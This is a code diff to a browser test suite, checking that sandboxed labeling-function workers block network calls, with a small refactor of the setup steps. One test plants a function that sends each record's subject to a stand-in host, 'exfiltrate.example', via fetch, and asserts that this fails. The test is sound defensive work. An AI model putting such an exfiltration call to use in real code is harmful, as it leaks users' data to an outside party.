@@ -5,7 +5,7 @@
  */
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { browserSuite, Harness } from './harness.ts';
-import { lfRow as row, writeCodeLf } from './lf-editor.ts';
+import { lfRow, openDemoLfs, writeCodeLf } from './lf-editor.ts';
 
 browserSuite('LF workers are locked down', () => {
   const h = new Harness();
@@ -18,18 +18,13 @@ browserSuite('LF workers are locked down', () => {
   });
 
   it('a code LF that calls fetch fails on that LF and sends nothing', async () => {
-    const page = h.page;
-    await h.goto();
-    await page.getByTestId('load-demo').click();
-    await page.getByTestId('dataset-ready').waitFor({ state: 'visible' });
-    await h.goto('#/lfs');
-    const lfRow = (name: string) => row(page, name);
     // The starter LFs read their chunks from IndexedDB inside locked-down workers.
-    await lfRow('money_words').getByText(/% coverage/).waitFor({ timeout: 60_000 });
+    await openDemoLfs(h);
+    const page = h.page;
 
     await writeCodeLf(page, 'phones_home', "(x) => { fetch('https://exfiltrate.example/?s=' + encodeURIComponent(x.subject)); return null; }");
     await page.getByTestId('lf-save').click();
-    const error = lfRow('phones_home').getByTestId('lf-error');
+    const error = lfRow(page, 'phones_home').getByTestId('lf-error');
     await error.waitFor({ timeout: 60_000 });
     expect(await error.textContent()).toMatch(/fetch/);
     await h.shot('lockdown-lf-error');
